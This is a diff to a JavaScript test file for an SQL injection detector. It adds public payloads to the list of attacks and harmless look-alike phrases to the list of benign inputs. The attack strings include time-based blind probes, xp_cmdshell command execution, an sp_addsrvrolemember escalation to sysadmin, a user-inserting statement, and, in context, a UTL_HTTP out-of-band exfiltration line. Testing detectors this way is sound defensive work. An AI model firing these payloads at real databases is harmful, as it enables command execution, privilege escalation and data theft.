@@ -31,6 +31,24 @@ const ATTACKS = [
   '(select login/2 from users limit 1,1)',
   "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0 '/**/AND/**/1=UTL_HTTP.request('http://x/'||(SELECT user FROM dual))--",
   'SELECT * FROM information_schema.tables',
+  // From public payload lists (PayloadsAllTheThings' SQL Injection/Intruder), once missed:
+  "'-'",
+  "'*'",
+  "'&'",
+  'ORDER BY 5',
+  'HAVING 1=1',
+  'HAVING 1=1--',
+  'pg_SLEEP(5)',
+  'or pg_SLEEP(5)',
+  'RANDOMBLOB(500000000/2)',
+  "AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
+  "exec master..xp_cmdshell 'ipconfig+/all'",
+  "' exec sp_addsrvrolemember 'name' , 'sysadmin' --",
+  "' insert into users(login, password, level) values('x', 'y', 1) --",
+  'select @@version',
+  'select version();',
+  "select current_setting('data_directory');",
+  'select * from sysusers',
 ];
 
 const BENIGN = [
@@ -53,6 +71,13 @@ const BENIGN = [
   '7" #2 CIRCULAR NEEDLE',
   "O'connors UNION selected a few friends from a",
   '1 I like having true friends',
+  'Please order by 5 pm',
+  'order by price',
+  'having 2 kids is fun',
+  "I can't insert into the form, it says error",
+  'SELECT hex(randomblob(16)) AS id',
+  'select the version you want',
+  'What version (2.1 or 3.0)?',
 ];
 
 describe('sqli detector', () => {
